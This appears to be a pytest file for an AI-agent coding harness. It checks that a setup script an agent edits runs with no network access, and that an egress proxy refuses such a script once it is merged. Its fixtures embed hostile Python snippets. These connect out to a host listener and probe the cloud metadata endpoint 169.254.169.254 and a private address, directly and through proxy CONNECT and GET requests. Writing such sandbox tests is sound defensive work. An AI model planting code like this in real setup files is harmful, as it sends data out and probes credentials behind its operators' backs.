"""Agent-written code never runs with the network: an implementer that edits a file
``commands.setup`` executes, to reach a listener on the host's loopback, reaches nothing —
not in implement, not in validation, not in the post-merge smoke run — and the change still
merges (its setup ran again, offline, because it touched a setup input)."""

from __future__ import annotations

from pathlib import Path

import pytest
import yaml

from harness.sandbox.bwrap import sandbox_available
from harness.sandbox.relay import EGRESS_PORT
from harness.store.db import Store
from tests.cli_helpers import run_cli
from tests.factory_repo import git
from tests.validate.conftest import file_issues, serve
from tests.validate.test_validate import issue, run_once

pytestmark = [
    pytest.mark.sandbox,
    pytest.mark.skipif(not sandbox_available(), reason="bubblewrap (bwrap) is not installed"),
]

HARMLESS = "print('setup done')\n"


def _phone_home(port: int) -> str:
    return (
        "import socket\n"
        "try:\n"
        f"    socket.create_connection(('127.0.0.1', {port}), 2).sendall(b'agent code')\n"
        "    print('REACHED THE HOST')\n"
        "except OSError as exc:\n"
        "    print('no network:', exc)\n"
    )


@pytest.mark.slow
def test_a_setup_file_the_agent_edits_never_runs_with_the_network(
    tmp_path: Path, capsys, app, listener, monkeypatch
) -> None:
    repo, _ = app
    port, got = listener
    (repo / "setup_hook.py").write_text(HARMLESS)
    config = yaml.safe_load((repo / "factory.yaml").read_text())
    config["commands"]["setup"] = "python3 setup_hook.py"
    config["commands"]["setup_inputs"] = ["setup_hook.py"]
    (repo / "factory.yaml").write_text(yaml.safe_dump(config, sort_keys=False))
    git(repo, "add", "-A")
    git(repo, "commit", "-qm", "a setup step")
    implementer = {
        "output": "finish",
        "match": "how many notes",
        "turns": [
            [
                {
                    "tool": "edit_file",
                    "input": {
                        "path": "app.py",
                        "old_text": '        "<h1>Notes</h1>"\n',
                        "new_text": '        "<h1>Notes</h1>"\n'
                        "        f'<p id=\"count\">{len(notes)} notes</p>'\n",
                    },
                },
                {
                    "tool": "write_file",
                    "input": {"path": "setup_hook.py", "content": _phone_home(port)},
                },
            ],
            [{"tool": "finish", "input": {"summary": "Count shown; setup tuned."}}],
        ],
    }
    for _ in serve(tmp_path, monkeypatch, [implementer]):
        file_issues(capsys, repo, [1])
        run_once(capsys, repo)
        break
    data = issue(capsys, repo, 1)
    assert "factory:merged" in data["labels"], data["labels"]  # validated, merged, smoke-tested
    assert got == []  # the agent's code never reached the host
    store = Store.open(tmp_path / "state")
    validation = store.list_runs(workflow="validate", issue=1)[0]
    steps = {s.step_id: s for s in store.steps(validation.id)}
    assert steps["check"].status == "succeeded" and steps["smoke"].status == "succeeded"
    # the agent's setup file did run — offline, on the change and on the merge
    assert steps["check"].outputs["setup_offline_for"] == ["setup_hook.py"]
    assert steps["smoke"].outputs["setup_offline_for"] == ["setup_hook.py"]
    assert (repo / "setup_hook.py").read_text() != HARMLESS  # it is production now


def _hostile(port: int) -> str:
    """A setup script as an agent could leave it on production: it tries the host's
    loopback, the cloud metadata endpoint and a private address, directly and through the
    proxy (ignoring NO_PROXY), and always exits 0."""
    return (
        "import socket\n"
        "def direct(host, port):\n"
        "    try:\n"
        "        socket.create_connection((host, port), 2).sendall(b'agent code')\n"
        "        print('REACHED', host, port)\n"
        "    except OSError as exc:\n"
        "        print('no route to', host, port, exc)\n"
        "def proxied(request):\n"
        "    try:\n"
        f"        s = socket.create_connection(('127.0.0.1', {EGRESS_PORT}), 5)\n"
        "        s.sendall(request.encode())\n"
        "        print('proxy says', s.recv(100).split(b'\\r\\n')[0])\n"
        "    except OSError as exc:\n"
        "        print('no proxy', exc)\n"
        f"for host, port in [('127.0.0.1', {port}), ('169.254.169.254', 80), ('10.0.0.1', 80)]:\n"
        "    direct(host, port)\n"
        f"proxied('CONNECT localhost:{port} HTTP/1.1\\r\\nHost: localhost:{port}\\r\\n\\r\\n')\n"
        "proxied('GET http://169.254.169.254/latest/meta-data/ HTTP/1.1\\r\\n"
        "Host: 169.254.169.254\\r\\n\\r\\n')\n"
        "proxied('CONNECT 10.0.0.1:443 HTTP/1.1\\r\\nHost: 10.0.0.1:443\\r\\n\\r\\n')\n"
    )


def _refused(record: dict, port: int) -> set[tuple[str, int]]:
    """The hosts and ports of a setup's connections, all of which were refused."""
    assert all(not c["allowed"] and c["status"] == 403 for c in record["connections"]), record
    return {(c["host"], c["port"]) for c in record["connections"]}


@pytest.mark.slow
def test_agent_code_already_on_production_reaches_only_the_proxy_which_refuses_it(
    tmp_path: Path, capsys, app, listener, monkeypatch
) -> None:
    """Production's own setup script is hostile (merged earlier): doctor and a full run
    set it up through the egress proxy. Nothing reaches the listener on the host's loopback,
    not even by a name on network.allow that resolves there, and every attempt made through
    the proxy is in the evidence and in the reports."""
    repo, _ = app
    port, got = listener
    (repo / "setup_hook.py").write_text(_hostile(port))
    config = yaml.safe_load((repo / "factory.yaml").read_text())
    config["commands"]["setup"] = "python3 setup_hook.py"
    config["network"] = {"allow": [f"localhost:{port}"]}  # a listed name that is loopback
    (repo / "factory.yaml").write_text(yaml.safe_dump(config, sort_keys=False))
    git(repo, "add", "-A")
    git(repo, "commit", "-qm", "setup, as an agent left it")
    expected = {("localhost", port), ("169.254.169.254", 80), ("10.0.0.1", 443)}

    res = run_cli(capsys, "--repo", str(repo), "doctor", "--json")
    assert res.code == 0, res.out + res.err
    doctor = res.json()
    assert _refused(doctor["network"], port) == expected
    assert doctor["network"]["allow"] == [f"localhost:{port}"]
    res = run_cli(capsys, "--repo", str(repo), "doctor")
    assert f"REFUSED  localhost:{port}  1 connection" in res.out, res.out
    assert "REFUSED  169.254.169.254:80" in res.out and "REFUSED  10.0.0.1:443" in res.out
    assert got == []

    for _ in serve(tmp_path, monkeypatch):
        file_issues(capsys, repo, [1])
        run_once(capsys, repo)
        break
    assert "factory:merged" in issue(capsys, repo, 1)["labels"]
    assert got == []  # not in implement, health, validation or smoke either
    store = Store.open(tmp_path / "state")
    implement = store.list_runs(workflow="implement", issue=1)[0]
    setup = {s.step_id: s for s in store.steps(implement.id)}["setup"]
    assert _refused(setup.outputs["network"], port) == expected
    validation = store.list_runs(workflow="validate", issue=1)[0]
    steps = {s.step_id: s for s in store.steps(validation.id)}
    for step in ("check", "smoke"):
        assert _refused(steps[step].outputs["network"], port) == expected, step
    report = run_cli(capsys, "--repo", str(repo), "report", validation.id)
    assert report.code == 0, report.err
    assert "setup network (egress proxy): allowed localhost:" in report.out
    assert report.out.count(f"REFUSED  localhost:{port}  1 connection") >= 2, report.out
    assert "REFUSED  169.254.169.254:80  1 connection" in report.out
